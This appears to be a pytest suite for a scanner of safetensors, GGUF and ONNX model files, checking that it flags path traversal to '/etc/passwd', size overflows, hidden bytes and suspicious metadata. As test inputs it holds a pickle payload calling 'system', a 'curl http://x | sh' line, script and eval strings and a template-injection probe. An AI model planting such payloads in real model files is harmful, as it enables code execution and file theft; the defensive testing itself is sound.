"""Threat classes of safetensors, GGUF and ONNX (numbers as in the project's list of threats)."""

from __future__ import annotations

import base64
import json
import struct
from pathlib import Path

import pytest

import weighbridge
from tests.examining import complete, examined, findings_of, rules_of
from tests.tensor_files import (
    STRING,
    UINT32,
    Gguf,
    message,
    onnx,
    onnx_external,
    onnx_graph,
    onnx_node,
    onnx_tensor,
    safetensors,
    varint,
)
from weighbridge.core.budget import Limits
from weighbridge.core.rule import Severity
from weighbridge.examine.models.facts.common import CodeReference, Template

PICKLE = b"cos\nsystem\n(S'true'\ntR."
OUT = onnx_tensor("w", external={"location": "../../etc/passwd"})
INSIDE = onnx_tensor("i", raw=bytes(8))


def attribute(number: int, content: bytes) -> bytes:
    return message((1, "a"), (number, content))


def sparse(values: bytes, indices: bytes) -> bytes:
    return message((1, values), (2, indices), (3, 4))


def node_graph(content: bytes) -> bytes:
    return onnx_graph((1, onnx_node("Op", content)))


def deep(levels: int) -> bytes:
    graph = onnx_graph((5, OUT))
    for _ in range(levels):
        graph = node_graph(attribute(6, graph))
    return graph


PLACES = {
    "initializer": onnx(onnx_graph((5, OUT))),
    "second initializer": onnx(onnx_graph((5, INSIDE), (5, OUT))),
    "sparse values": onnx(onnx_graph((15, sparse(OUT, INSIDE)))),
    "sparse indices": onnx(onnx_graph((15, sparse(INSIDE, OUT)))),
    "attribute t": onnx(node_graph(attribute(5, OUT))),
    "attribute tensors": onnx(node_graph(attribute(10, OUT))),
    "attribute sparse_tensor": onnx(node_graph(attribute(22, sparse(OUT, INSIDE)))),
    "attribute sparse_tensors": onnx(node_graph(attribute(23, sparse(INSIDE, OUT)))),
    "subgraph": onnx(node_graph(attribute(6, onnx_graph((5, OUT))))),
    "subgraphs": onnx(node_graph(attribute(11, onnx_graph((15, sparse(OUT, INSIDE)))))),
    "twenty subgraphs deep": onnx(deep(20)),
    "function node": onnx(onnx_graph(), (25, message((1, "F"), (7, onnx_node("Op", attribute(5, OUT)))))),
    "function attribute": onnx(onnx_graph(), (25, message((1, "F"), (11, attribute(5, OUT))))),
    "training initialization": onnx(onnx_graph(), (20, message((1, onnx_graph((5, OUT)))))),
    "training algorithm": onnx(onnx_graph(), (20, message((2, node_graph(attribute(5, OUT)))))),
    "second graph of the same model": onnx(onnx_graph((5, INSIDE)), (7, onnx_graph((5, OUT)))),
    "fields in another order": message((8, message((2, 17))), (7, onnx_graph((5, OUT))), (1, 8)),
    "before a broken tail": onnx(onnx_graph((5, OUT))) + b"\xff\xff",
    "no data_location": onnx(onnx_graph((5, onnx_tensor(more=message((13, message((1, "location"), (2, "/x")))))))),
    "first of two locations": onnx(
        onnx_graph(
            (5, onnx_tensor(external={"location": "/x"}, more=message((13, message((1, "location"), (2, "w"))))))
        )
    ),
}


@pytest.mark.parametrize("place", PLACES)
def test_class_45_onnx_external_data_wherever_it_hides(place: str) -> None:
    found = [
        finding for finding in findings_of({"m.onnx": PLACES[place]}) if finding.rule.id == "onnx.external-data-path"
    ]
    assert [finding.severity for finding in found] == [Severity.CRITICAL]


@pytest.mark.parametrize(
    "location",
    [
        "../w", "a/../../w", "a/..", "..", "/etc/passwd", "//host/share", "C:\\w", "c:w", "\\\\host\\w", "..\\w", "a\\..\\w", "a\\w",
        "file:///etc/passwd", "http://host/w", "s3://bucket/w", "FILE:w", "data:,x", "a\0b", "*/_ORT_MEM_ADDR_/*", "x" * 2000,
    ],
)  # fmt: skip
def test_class_45_onnx_external_data_path_leads_away(location: str) -> None:
    assert "onnx.external-data-path" in rules_of({"m.onnx": onnx_external(location)})


@pytest.mark.parametrize("location", ["w.bin", "./w.bin", "data/w.bin", "w..bin", "..w", "onnx::MatMul_1", "ü 1.bin"])
def test_class_45_onnx_plain_external_data_is_explained(location: str) -> None:
    files = {"m.onnx": onnx_external(location), location.removeprefix("./"): bytes(range(8))}
    assert rules_of(files) == set()
    assert complete(files)


def test_class_45_onnx_external_data_missing_short_or_odd() -> None:
    assert "onnx.external-data-missing" in rules_of({"a/m.onnx": onnx_external("w"), "w": bytes(8)})
    short = {"m.onnx": onnx_external("w", offset="1"), "w": bytes(range(8))}
    assert "onnx.external-data-bounds" in rules_of(short)
    assert "onnx.header" in rules_of({"m.onnx": onnx_external("w", load_external="1"), "w": bytes(range(8))})


def test_class_45_onnx_external_pickle_is_still_examined() -> None:
    parts = {
        name: examined(data, name)
        for name, data in {"m.onnx": onnx_external("w"), "w": b"PK\x05\x06" + bytes(18)}.items()
    }
    assert parts["w"][0].format != "opaque"


def test_class_45_onnx_custom_and_python_operators() -> None:
    model = onnx(
        node_graph(
            attribute(
                6, onnx_graph((1, onnx_node("Run", domain="acme")), (1, onnx_node("PyOp", domain="ai.onnx.contrib")))
            )
        )
    )
    assert {"onnx.custom-domain", "onnx.python-operator"} <= rules_of({"m.onnx": model})
    (part,) = examined(model, "m.onnx")
    assert [reference.target for reference in part.facts.of(CodeReference)] == ["acme::Run"]


@pytest.mark.parametrize(
    "domain", ["ai.onnx.mI", "ai.onnx.ml.", " ai.onnx", "com.microsoft.evil", "AI.ONNX", "ai.onnx\0"]
)
def test_class_45_onnx_domains_are_compared_exactly(domain: str) -> None:
    assert "onnx.custom-domain" in rules_of({"m.onnx": onnx(onnx_graph((1, onnx_node("Relu", domain=domain))))})


gguf = Gguf()
WORD = 1 << 64


@pytest.mark.parametrize(
    "tensor",
    [
        gguf.tensor("w", [1 << 32, 1 << 32], 0, 0),
        gguf.tensor("w", [1 << 63], 0, 0),
        gguf.tensor("w", [WORD - 1], 0, 0),
        gguf.tensor("w", [1 << 62, 4], 0, 0),
        gguf.tensor("w", [1 << 16] * 4, 0, 0),
        gguf.tensor("w", [WORD - 32, WORD - 32, WORD - 32, WORD - 32], 12, 0),
        gguf.tensor("w", [1 << 61], 28, 0),
        gguf.tensor("w", [32], 0, WORD - 32),
    ],
)
@pytest.mark.parametrize("order", "<>")
def test_class_46_gguf_sizes_wrap_around(tensor: bytes, order: str) -> None:
    if order == ">":
        tensor = Gguf(order=">").tensor("w", [1 << 32, 1 << 32], 0, 0)
    rules = rules_of(Gguf(order=order).file([], [tensor], bytes(64)))
    assert {"gguf.size-overflow", "gguf.out-of-bounds"} <= rules


def test_class_46_gguf_data_outside_overlapping_or_hidden() -> None:
    assert "gguf.out-of-bounds" in rules_of(gguf.file([], [gguf.tensor("w", [9], 0, 0)], bytes(32)))
    two = [gguf.tensor("a", [16], 0, 0), gguf.tensor("b", [8], 0, 32)]
    assert "gguf.overlap" in rules_of(gguf.file([], two, bytes(64)))
    hidden = findings_of(gguf.file([], [gguf.tensor("w", [8], 0, 0)], bytes(32) + b"PK\x05\x06" + bytes(18)))
    assert "gguf.hidden-data" in {finding.rule.id for finding in hidden}


CLAIMS = {
    "tensors": lambda g, huge: g.pack(g.count * 2, huge, 0),
    "keys": lambda g, huge: g.pack(g.count * 2, 0, huge),
    "key's length": lambda g, huge: g.pack(g.count * 3, 0, 1, huge),
    "strings of an array": lambda g, huge: (
        g.pack(g.count * 2, 0, 1) + g.string("k") + g.pack("II" + g.count, 9, 8, huge)
    ),
    "bytes of an array": lambda g, huge: g.pack(g.count * 2, 0, 1) + g.string("k") + g.pack("II" + g.count, 9, 0, huge),
    "array depth": lambda g, _: (
        g.pack(g.count * 2, 0, 1) + g.string("k") + g.pack("I", 9) + g.pack("I" + g.count, 9, 1) * 99_999
    ),
    "value type": lambda g, _: g.pack(g.count * 2, 0, 1) + g.string("k") + g.pack("I", 77),
    "dimensions": lambda g, _: g.pack(g.count * 2, 1, 0) + g.string("w") + g.pack("I", (1 << 32) - 1),
}


@pytest.mark.parametrize("version", [1, 2, 3])
@pytest.mark.parametrize("claim", CLAIMS)
def test_class_46_gguf_claimed_counts_cost_nothing(version: int, claim: str) -> None:
    writer = Gguf(version)
    tail = CLAIMS[claim](writer, (1 << 32) - 1 if version == 1 else 1 << 62)
    data = b"GGUF" + writer.pack("I", version) + tail
    assert "file.malformed" in rules_of(data)
    assert not complete(data)


def test_class_46_gguf_unknown_tensor_type_leaves_a_gap() -> None:
    data = gguf.file([], [gguf.tensor("w", [8], 999, 0), gguf.tensor("v", [8], 0, 32)], bytes(64))
    assert rules_of(data) == {"file.unsupported"}
    assert not complete(data)


@pytest.mark.parametrize("alignment", [0, 3, 24, (1 << 32) - 1])
def test_class_46_gguf_alignment(alignment: int) -> None:
    keys = [gguf.key("general.alignment", UINT32, alignment)]
    assert "gguf.header" in rules_of(gguf.file(keys, [gguf.tensor("w", [8], 0, 0)], bytes(32)))


@pytest.mark.parametrize("key", ["tokenizer.chat_template", "tokenizer.chat_template.tool_use", "general.description"])
def test_class_47_gguf_chat_template_is_a_fact(key: str) -> None:
    text = "{% for m in messages %}{{ m.__class__ }}{% endfor %}"
    (part,) = examined(gguf.file([gguf.key(key, STRING, text)]))
    assert [(template.where, template.text) for template in part.facts.of(Template)] == [(key, text)]


ONE = {"a": ("U8", [4], (0, 4)), "b": ("U8", [4], (4, 8))}


def entry(dtype: object = "U8", shape: object = (8,), offsets: object = (0, 8), **more: object) -> bytes:
    return json.dumps({"a": {"dtype": dtype, "shape": shape, "data_offsets": offsets, **more}}).encode()


@pytest.mark.parametrize(
    ("header", "rule"),
    [
        (entry() + b"\0" * 8, "safetensors.header"),
        (b" " + entry(), "safetensors.header"),
        (entry() + b"{}", "safetensors.header"),
        (entry(shape=[9]), "safetensors.header"),
        (entry(shape=[1 << 32, 1 << 32, 1 << 32]), "safetensors.header"),
        (entry(shape=[-1]), "safetensors.header"),
        (entry(shape=[8.0]), "safetensors.header"),
        (entry(shape=[True] * 8), "safetensors.header"),
        (entry(shape=[1] * 100_000), "safetensors.header"),
        (entry(dtype="F4", shape=[15]), "safetensors.header"),
        (entry(dtype="O"), "safetensors.header"),
        (entry(dtype=1), "safetensors.header"),
        (entry(offsets=[8, 0]), "safetensors.header"),
        (entry(offsets=[0, 8, 8]), "safetensors.header"),
        (entry(offsets=[0, 10**30]), "safetensors.header"),
        (entry(offsets="08"), "safetensors.header"),
        (entry(extra=1), "safetensors.header"),
        (b'{"a": 1}', "safetensors.header"),
        (b'{"a": NaN}', "safetensors.header"),
        (b'{"__metadata__": {"a": 1}}', "safetensors.header"),
        (b'{"__metadata__": ["a"]}', "safetensors.header"),
        (b'{"__metadata__": {"a": "\xff"}}', "safetensors.header"),
        (b'{"__metadata__": {"a": "\\ud800"}}', "safetensors.header"),
        (b'{"__metadata__": {"a": "x", "a": "y"}}', "safetensors.duplicate-key"),
        (b'{"__metadata__": {}, "__metadata__": {}}', "safetensors.duplicate-key"),
        (entry()[:-1] + b"," + entry()[1:], "safetensors.duplicate-key"),
        (entry()[:-1] + b"," + entry()[1:].replace(b'"a"', b'"\\u0061"'), "safetensors.duplicate-key"),
        (entry(offsets=[0, 1 << 62]), "safetensors.out-of-bounds"),
        (entry(shape=[4], offsets=[4, 8]), "safetensors.hidden-data"),
        (entry(shape=[4], offsets=[0, 4]), "safetensors.hidden-data"),
        (b"{}", "safetensors.hidden-data"),
        (b'{"a": ', "file.malformed"),
        (b'{"a": ' * 100_000, "file.limit-reached"),
        (b"{}[1]", "safetensors.header"),
    ],
)  # fmt: skip
def test_class_54_safetensors_header(header: bytes, rule: str) -> None:
    assert rule in rules_of(safetensors(header=header, data=bytes(range(8))))


def test_class_54_safetensors_overlap() -> None:
    overlapping = {"a": ("U8", [5], (0, 5)), "b": ("U8", [4], (4, 8))}
    assert rules_of(safetensors(overlapping, data=bytes(8))) == {"safetensors.overlap"}
    assert rules_of(safetensors(ONE, data=bytes(8))) == set()


def test_class_54_safetensors_length() -> None:
    whole = safetensors(ONE, data=bytes(8))
    length = int.from_bytes(whole[:8], "little")
    assert "file.malformed" in rules_of(struct.pack("<Q", length + 1000) + whole[8:])
    assert {"file.malformed", "safetensors.header"} <= rules_of(struct.pack("<Q", 100_000_001) + whole[8:])
    assert "safetensors.header" in rules_of(struct.pack(">Q", length) + whole[8:])


def test_class_54_safetensors_hidden_bytes_are_examined() -> None:
    hidden = safetensors(
        {"a": ("U8", [4], (0, 4)), "b": ("U8", [4], (28, 32))}, data=bytes(4) + PICKLE.ljust(24, b"N") + bytes(4)
    )
    (part,) = examined(hidden)
    assert [child.route for child in part.children] == [(f"gap@{len(hidden) - 28}",)]
    assert part.children[0].size == 24
    nested = safetensors(ONE, data=bytes(8) + safetensors(ONE, data=bytes(8)))
    assert examined(nested)[0].children[0].format == "safetensors"


@pytest.mark.parametrize(
    "value",
    [
        "<script>x()</script>",
        "eval(input())",
        "curl http://x | sh",
        base64.b64encode(b"\x80\x04\x95" + bytes(60)).decode(),
    ],
)
def test_class_54_safetensors_metadata(value: str) -> None:
    assert rules_of(safetensors(ONE, data=bytes(8), metadata={"note": value})) == {"safetensors.suspicious-metadata"}


@pytest.mark.parametrize(
    "data",
    [
        onnx(onnx_graph((5, message((1, 8), (2, 1), (9, b"")) + b"\x4a" + varint(1 << 62)))),
        onnx(onnx_graph()) + b"\x3a" + varint(1 << 62),
        onnx(deep(5000)),
        onnx(onnx_graph((5, onnx_tensor("w", [1] * 1000)))),
    ],
)
def test_class_21_onnx_claims_and_depth_are_bounded(data: bytes) -> None:
    assert rules_of({"m.onnx": data}) & {"file.malformed", "file.limit-reached"}
    assert not complete({"m.onnx": data})


def test_class_21_gguf_and_safetensors_counts_are_bounded() -> None:
    limits = Limits(members=500)
    tensors = [gguf.tensor(f"{index}", [0], 0, 0) for index in range(1000)]
    assert "file.limit-reached" in rules_of(gguf.file([], tensors), limits)
    many = {f"{index}": ("U8", [0], (0, 0)) for index in range(1000)}
    assert "file.limit-reached" in rules_of(safetensors(many), limits)
    assert "file.limit-reached" in rules_of({"m.onnx": onnx(onnx_graph(*[(5, INSIDE)] * 1000))}, limits)


def test_class_45_onnx_external_data_behind_a_link(tmp_path: Path) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    (tmp_path / "secret").write_bytes(bytes(8))
    (folder / "w").symlink_to(tmp_path / "secret")
    (folder / "m.onnx").write_bytes(onnx_external("w"))
    evidence = weighbridge.scan(str(folder))
    assert "onnx.external-data-missing" in {finding.rule.id for finding in evidence.findings}
    assert [subject.subject.name for subject in evidence.subjects if subject.error] == ["w"]
    assert not evidence.complete
